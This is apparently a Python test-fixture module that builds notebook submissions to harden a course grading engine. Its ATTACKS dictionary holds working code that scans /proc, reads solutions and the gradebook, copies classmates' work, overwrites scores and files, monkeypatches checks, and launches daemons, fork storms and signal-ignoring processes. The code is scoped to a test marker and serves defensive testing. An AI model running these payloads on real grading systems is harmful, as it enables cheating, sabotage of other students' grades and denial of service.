"""Student submissions for the grading tests and benchmark, generated from ``solutions/<exNN>/``.

Every submission is written at test time from the current source notebook, so the corpus never
goes stale when an exercise changes:

* ``correct``: the released notebook with every answer cell filled from the solution (hidden tests
  are not in it, as in the release learners get);
* ``blank``: the released notebook as learners receive it;
* ``partial``: the release with the answers of the first half of the questions filled in;
* the hostile or broken kinds that the grading engine must survive (``KINDS``): an infinite loop,
  a kernel killed with ``os._exit``, ``SystemExit``/``KeyboardInterrupt``, a memory bomb, 50 MB of
  printed output, deleted or edited test cells, edited locked cells, extra/renamed notebooks, the
  notebook of another assignment, invalid JSON, a file that is not a notebook, an empty folder.

The faulty code always goes into the **last** question's answer cell, so the earlier questions
still earn their points when the grader recovers (tests/course/test_grade.py works out the scores).

:data:`ATTACKS` (issue #18) are a participant who wants marks without the work, or to change other
people's: each is a **blank** ex00 notebook whose first answer cell holds the attack, so it must
score 0 (tests/course/test_grade_attacks.py, tests/course/test_answers.py). They read the solutions,
the gradebook or the oracle from disk while graded, copy a classmate's answers from a worker's
scratch folder, write into the course folder, the gradebook and other students' files, rebind or
monkeypatch the checks, leave detached processes, start a fork storm, ignore termination. Attacks
act only on a course folder that holds :data:`TARGET_MARKER` with their run's token (the tests make one), and every
process they start carries ``<attack>-<token>`` in its command line (``daemon-``, ``storm-``,
``stubborn-``), so no other course on the machine is touched and nothing they leave goes unnoticed.

Usage::

    from tests.course.submission_corpus import KINDS, make_submission
    folder = make_submission("infinite_loop", "ex00", course / "submitted" / "ana" / "ex00")
"""
from __future__ import annotations

import copy
import io
import zipfile
from pathlib import Path

import nbformat

from course_tools.course.grading import hidden_text
from course_tools.paths import EXERCISES, SOLUTIONS

KINDS: tuple[str, ...] = (
    "correct", "partial", "blank", "infinite_loop", "kernel_death", "system_exit",
    "keyboard_interrupt", "memory_bomb", "huge_output", "deleted_tests", "edited_locked",
    "edited_visible_tests", "extra_notebook", "renamed_notebook", "wrong_assignment",
    "invalid_json", "not_a_notebook", "empty_folder",
)

#: Code put in the last question's answer cell for the kinds that misbehave while running.
FAULTS: dict[str, str] = {
    "infinite_loop": "while True:\n    pass",
    "kernel_death": "import os\nos._exit(1)",
    "system_exit": "raise SystemExit('I am done / Terminé')",
    "keyboard_interrupt": "raise KeyboardInterrupt",
    # grows by 100 MB blocks that are written to (so they really use memory) until stopped
    "memory_bomb": "_blocks = []\nwhile True:\n    _blocks.append(bytearray(b'x' * (100 * 2**20)))",
}
#: 50 MB of printed output (one print of 50,000 lines of 1,000 characters), then the right answer.
HUGE_OUTPUT = "print(('x' * 999 + '\\n') * 50_000)\n"

#: File that marks a course folder the attacks may act on (the tests create it; nothing else has it).
TARGET_MARKER = ".nichos-attack-target"

# Finds the course folders an attack can reach: the working folders and environment of every process
# it can see (the grader runs from the course folder, as `course grade` does), and the folders above.
_FIND = """
import glob as _glob, json as _json, os as _os, sys as _sys
def _targets():
    found = set()
    for _d in _glob.glob("/proc/[0-9]*"):
        try:
            _cands = [_os.readlink(_d + "/cwd")]
            _env = open(_d + "/environ", "rb").read().split(b"\\0")
            _cands += [_e.split(b"=", 1)[1].decode(errors="ignore") for _e in _env if b"=" in _e]
        except OSError:
            continue
        for _c in _cands:
            while _c.startswith("/") and _c != "/":
                _m = _os.path.join(_c, "%(marker)s")
                if _os.path.isfile(_m) and open(_m).read().strip() == "%(token)s":  # this run's course only
                    found.add(_c)
                _c = _os.path.dirname(_c)
    return sorted(found)
"""
_SOLUTION_CELLS = """
def _run_solutions(_cells):
    for _cell in _cells:
        if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(_cell["source"]), globals())
"""
#: Attack code, put in the first answer cell of a blank notebook (``%(token)s``: the test's token).
ATTACKS: dict[str, str] = {
    # the first attack: find the course folder and run the solution cells
    "steal_solutions": _FIND + _SOLUTION_CELLS + """
for _t in _targets():
    for _nb in _glob.glob(_t + "/solutions/%(assignment)s/*.ipynb"):
        _run_solutions(_json.load(open(_nb))["cells"])
""",
    # the gradebook keeps the source of every graded cell, the solutions included (and each worker has a copy)
    "read_gradebook": _FIND + """
import sqlite3 as _sqlite3
for _db in [_t + "/gradebook.db" for _t in _targets()] + _glob.glob("/dev/shm/nichos-grade-db-*/*.db"):
    try:
        _rows = _sqlite3.connect("file:" + _db + "?mode=ro", uri=True).execute(
            "select source from source_cell order by rowid").fetchall()
    except Exception:
        continue
    for (_s,) in _rows:
        if _s and "BEGIN SOLUTION" in _s:
            try:
                exec(_s, globals())
            except Exception:
                pass
""",
    # the exercise's oracle computes the expected answers: import it from the course folder
    "read_oracle": _FIND + """
for _t in _targets():
    _sys.path.insert(0, _t + "/solutions/%(assignment)s")
try:
    import oracle as _o
    total_exports = _o.total(COUNTRY)
    top_product, top_share = _o.top_product(COUNTRY)
    top_name = sorted(_o.product_names(top_product))[0]
except Exception:
    pass
""",
    # another worker's scratch folder holds a classmate's notebook
    "copy_classmate": _SOLUTION_CELLS + """
import glob as _glob, json as _json
for _nb in sorted(_glob.glob("/tmp/nichos-grade-*/jobs/correct*/submitted/*/%(assignment)s/*.ipynb")):
    try:
        _run_solutions(_json.load(open(_nb))["cells"])
        break
    except Exception:
        continue
""",
    # write into the course folder, the gradebook, the log, other students' hand-ins and scratch copies
    "write_everywhere": _FIND + """
import sqlite3 as _sqlite3
def _spoil(_path):
    try:
        with open(_path, "a") as _f:
            _f.write(" ")
    except OSError:
        pass
for _t in _targets():
    for _p in [_t + "/PWNED-%(token)s", _t + "/grading_log/PWNED-%(token)s.json"]:
        try:
            _os.makedirs(_os.path.dirname(_p), exist_ok=True)
            open(_p, "w").write("pwned")
        except OSError:
            pass
    for _p in _glob.glob(_t + "/submitted/*/*/*.ipynb") + _glob.glob(_t + "/solutions/*/*"):
        _spoil(_p)
    _spoil(_t + "/nbgrader_config.py")
    try:
        _db = _sqlite3.connect(_t + "/gradebook.db")
        _db.execute("insert into student (id) values ('pwned_%(token)s')")
        _db.execute("update grade set manual_score = 99")
        _db.commit()
    except Exception:
        pass
_work = _os.path.dirname(_os.path.dirname(_os.getcwd()))  # the grading run's folder, from the kernel's
for _p in _glob.glob(_work + "/jobs/*/submitted/*/*/*.ipynb"):  # the classmates' copies being graded
    try:
        _nb = _json.load(open(_p))
        for _cell in _nb["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                _cell["source"] = "pass"
        _json.dump(_nb, open(_p, "w"))
    except (OSError, ValueError):
        pass
""",
    # rebind the names the test cells call
    "rebind_check": """
check = lambda *args, **kwargs: None
def _checker(*args, **kwargs):
    return check
checker = _checker
""",
    # monkeypatch the modules the tests use, and answers that equal everything
    "monkeypatch": """
import builtins, math, pandas.testing
import course_tools.course.selfcheck as _sc
math.isclose = lambda *a, **k: True
builtins.sorted = lambda *a, **k: [0]
pandas.testing.assert_frame_equal = lambda *a, **k: None
_sc.run_checks = lambda checks, question, namespace: _sc.CheckResult(checks.exercise, question, True, 1, 1)
class _Always(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__
class _AlwaysText(str):
    __eq__, __ne__, __hash__ = _Always.__eq__, _Always.__ne__, str.__hash__
# their values as data are wrong (a negative total, a share above 1, no code, no name): they earn nothing
total_exports, top_share = _Always(-1.0), _Always(-1.0)
top_product, top_name = _AlwaysText("x"), _AlwaysText("")
""",
    # replace the exporter: forged answers (they still have to be right)
    "forge_exporter": """
import json as _json
import course_tools.course.instructor.answers as _answers
def _forge(namespace, names, path, max_bytes=0):
    _v = {"t": "float", "v": "-1.0"}  # whatever it forges, an answer is only data: it must be right
    open(path, "w").write(_json.dumps({n: {"value": _v} for n in names}))
_answers.write_answers = _forge
""",
    # an IPython input transformer that empties every later test cell
    "input_transformer": """
def _hide_tests(lines):
    text = "".join(lines)
    return [] if "assert" in text or "check(" in text or "_nichos_export" in text else lines
get_ipython().input_transformers_post.append(_hide_tests)
""",
    # detached processes: a new session, and a double-forked daemon that writes after grading ends
    "daemon": _FIND + """
import subprocess as _sp
_sp.Popen(["daemon-%(token)s", "987.6543"], start_new_session=True, executable="/bin/sleep")
_later = ("import os, sys, time\\ntime.sleep(6)\\nfor _t in sys.argv[2:]:\\n"
          "    open(_t + '/LATE-%(token)s', 'w').write('late')")
_pid = _os.fork()
if _pid == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", _later, "daemon-%(token)s", *_targets()])
    _os._exit(0)
_os.waitpid(_pid, 0)
""",
    # a fork storm: as many detached sleeping children as the system lets it start (at most 400)
    "fork_storm": """
import os as _os
_n = 0
for _i in range(400):
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            _os.setsid()
            _os.execv("/bin/sleep", ["storm-%(token)s", "987.6543"])
        finally:
            _os._exit(0)
    _n += 1
print("forked", _n)
""",
    # signal handlers that ignore termination, in the kernel and in a child of its own session
    "ignore_termination": """
import signal as _signal, subprocess as _sp, sys as _sys
for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):
    _signal.signal(_s, _signal.SIG_IGN)
_stubborn = ("import signal, time\\nfor s in (1, 2, 15):\\n    signal.signal(s, signal.SIG_IGN)\\n"
             "while True:\\n    time.sleep(1)")
_sp.Popen([_sys.executable, "-c", _stubborn, "stubborn-%(token)s"], start_new_session=True)
""",
}

def _nbgrader(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _notebook_names(assignment: str) -> list[str]:
    names = sorted(p.name for p in (SOLUTIONS / assignment).glob("*.ipynb"))
    if not names:
        raise FileNotFoundError(f"no source notebook in {SOLUTIONS / assignment}")
    return names


def solution_answers(assignment: str, notebook: str | None = None) -> dict[str, str]:
    """``{grade_id: answer code}`` of the solution cells of the source notebook (no markers)."""
    name = notebook or _notebook_names(assignment)[0]
    nb = nbformat.read(SOLUTIONS / assignment / name, as_version=4)
    return {_nbgrader(c)["grade_id"]: "\n".join(hidden_text(c.source, kinds=("SOLUTION",)))
            for c in nb.cells if _nbgrader(c).get("solution") and c.cell_type == "code"}


def released(assignment: str, notebook: str | None = None):
    """The released (student) notebook of ``assignment`` as an nbformat node."""
    name = notebook or _notebook_names(assignment)[0]
    path = EXERCISES / assignment / name
    if not path.is_file():
        raise FileNotFoundError(f"{path} not found: run `course build {assignment}`")
    return nbformat.read(path, as_version=4)


def _filled(assignment: str, which: str = "all"):
    """The release with answers filled from the solution: all of them, or the first half."""
    nb = copy.deepcopy(released(assignment))
    answers = solution_answers(assignment)
    ids = [gid for gid in answers if gid in {_nbgrader(c).get("grade_id") for c in nb.cells}]
    if which == "half":
        ids = ids[: len(ids) // 2]
    for cell in nb.cells:
        if _nbgrader(cell).get("grade_id") in ids:
            cell.source = answers[_nbgrader(cell)["grade_id"]]
    return nb


def _last_answer(nb):
    cells = [c for c in nb.cells if _nbgrader(c).get("solution") and c.cell_type == "code"]
    return cells[-1]


def _test_cells(nb) -> list:
    return [c for c in nb.cells if _nbgrader(c).get("grade") and c.cell_type == "code"]


def _xlsx_bytes() -> bytes:
    """A small zip archive shaped like an Excel workbook: a file that is not a notebook."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
    return buf.getvalue()


def attack_source(kind: str, assignment: str = "ex00", token: str = "nichos-attack") -> str:
    """The code of attack ``kind`` (:data:`ATTACKS`) for ``assignment``, marked with ``token``."""
    return ATTACKS[kind] % {"marker": TARGET_MARKER, "token": token, "assignment": assignment}


def make_submission(kind: str, assignment: str, dest_dir: Path, token: str = "nichos-attack") -> Path:
    """Write one student's submission folder of ``kind`` for ``assignment`` into ``dest_dir``.

    ``dest_dir`` is the folder ``submitted/<student>/<assignment>/`` (created if needed); ``token``
    marks what an attack of :data:`ATTACKS` starts or writes. Returns ``dest_dir``.
    """
    if kind not in KINDS and kind not in ATTACKS:
        raise ValueError(f"unknown submission kind {kind!r}; choose one of {KINDS + tuple(ATTACKS)}")
    dest_dir = Path(dest_dir)
    dest_dir.mkdir(parents=True, exist_ok=True)
    (name,) = _notebook_names(assignment)[:1]
    target = dest_dir / name

    def write(nb, path: Path = target) -> Path:
        nbformat.write(nb, path)
        return dest_dir

    if kind == "empty_folder":
        return dest_dir
    if kind in ATTACKS:
        nb = copy.deepcopy(released(assignment))
        first = next(c for c in nb.cells if _nbgrader(c).get("solution") and c.cell_type == "code")
        first.source = attack_source(kind, assignment, token)
        return write(nb)
    if kind == "blank":
        return write(released(assignment))
    if kind == "correct":
        return write(_filled(assignment))
    if kind == "partial":
        return write(_filled(assignment, "half"))
    if kind in FAULTS:
        nb = _filled(assignment)
        _last_answer(nb).source = FAULTS[kind]
        return write(nb)
    if kind == "huge_output":
        nb = _filled(assignment)
        cell = _last_answer(nb)
        cell.source = HUGE_OUTPUT + cell.source
        return write(nb)
    if kind == "deleted_tests":
        nb = _filled(assignment)
        tests = _test_cells(nb)
        drop = {id(tests[3]), id(tests[4])}  # in ex00: q2_hidden and q3_visible
        nb.cells = [c for c in nb.cells if id(c) not in drop]
        return write(nb)
    if kind == "edited_locked":
        # the locked set-up cell now makes every visible check pass, whatever the answers
        nb = _filled(assignment, "half")
        for cell in nb.cells:
            if _nbgrader(cell).get("locked") and not _nbgrader(cell).get("grade") \
                    and cell.cell_type == "code":
                cell.source += "\n\ndef check(*args, **kwargs):\n    return True\n"
        return write(nb)
    if kind == "edited_visible_tests":
        nb = _filled(assignment, "half")
        for cell in _test_cells(nb):
            cell.source = "pass  # tests switched off"
        return write(nb)
    if kind == "extra_notebook":
        write(_filled(assignment))
        return write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1 + 1")]),
                     dest_dir / "scratch.ipynb")
    if kind == "renamed_notebook":
        return write(_filled(assignment), dest_dir / f"{target.stem} (copy).ipynb")
    if kind == "wrong_assignment":
        others = sorted(p.name for p in EXERCISES.iterdir() if p.is_dir() and p.name != assignment)
        if not others:
            raise FileNotFoundError("a second exercise in exercises/ is needed for 'wrong_assignment'")
        return write(released(others[0]))
    if kind == "invalid_json":  # a notebook cut short (an interrupted upload or copy)
        target.write_text(nbformat.writes(_filled(assignment))[:1500], encoding="utf-8")
        return dest_dir
    if kind == "not_a_notebook":
        target.write_bytes(_xlsx_bytes())
        return dest_dir
    raise AssertionError(kind)  # pragma: no cover
